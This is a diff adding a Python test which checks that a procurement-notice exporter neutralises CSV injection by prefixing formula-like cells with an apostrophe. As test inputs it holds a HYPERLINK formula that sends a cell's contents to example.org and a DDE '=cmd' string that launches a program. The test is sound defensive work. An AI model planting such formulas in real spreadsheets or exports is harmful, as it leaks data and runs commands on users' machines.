@@ -238,3 +238,40 @@ def test_an_eforms_result_notice_without_bt_71_cannot_declare() -> None:
     assert notice.kind == "award" and notice.can_declare  # it states BT-71
     notice = read_eforms_notice(parse_xml(without.encode(), "can"), "can", lambda p: None)
     assert notice.kind == "award" and not notice.can_declare
+
+
+def test_text_that_excel_would_run_as_a_formula_is_kept_as_text_in_notices_csv(tmp_path: Path) -> None:
+    """A notice is someone else's text: a title or a buyer's name that starts with = + - @ (or a tab) would be
+    a live formula when an analyst opens notices.csv in Excel (CSV injection). The cell starts with a ' so that
+    Excel shows it as text; summary.json and the report keep the text as published."""
+    folder = tmp_path / "in"
+    folder.mkdir()
+    titles = {
+        "ocds-x-1": '=HYPERLINK("http://example.org/?"&A1,"klik")',
+        "ocds-x-2": "+32 2 555 00 00",
+        "ocds-x-3": "-2+3",
+        "ocds-x-4": "@SUM(1+1)",
+        "ocds-x-5": "\t=1+1",  # the reader trims the tab: still a formula
+        "ocds-x-6": "Schoonmaak = netheid",
+    }
+    lines = []
+    for ocid, title in titles.items():
+        found = release(ocid)
+        found["tender"] = {**found["tender"], "title": title}
+        found["buyer"] = {**found.get("buyer", {}), "name": "=cmd|' /C calc'!A0" if ocid == "ocds-x-1" else "Stad"}
+        lines.append(json.dumps(found))
+    (folder / "releases.jsonl").write_text("\n".join(lines) + "\n", "utf-8")
+    assert run(str(folder), "--out", str(tmp_path / "o")).exit_code == 0
+    by_id = {r["id"]: r for r in rows(tmp_path / "o")}
+    assert {ocid: by_id[ocid]["title"] for ocid in titles} == {
+        "ocds-x-1": "'" + titles["ocds-x-1"],
+        "ocds-x-2": "'+32 2 555 00 00",
+        "ocds-x-3": "'-2+3",
+        "ocds-x-4": "'@SUM(1+1)",
+        "ocds-x-5": "'=1+1",
+        "ocds-x-6": "Schoonmaak = netheid",
+    }
+    assert by_id["ocds-x-1"]["buyer"] == "'=cmd|' /C calc'!A0"
+    assert by_id["ocds-x-2"]["buyer"] == "Stad"
+    data = summary(tmp_path / "o")
+    assert any(key.startswith("=cmd|") for key in data["by_buyer"])
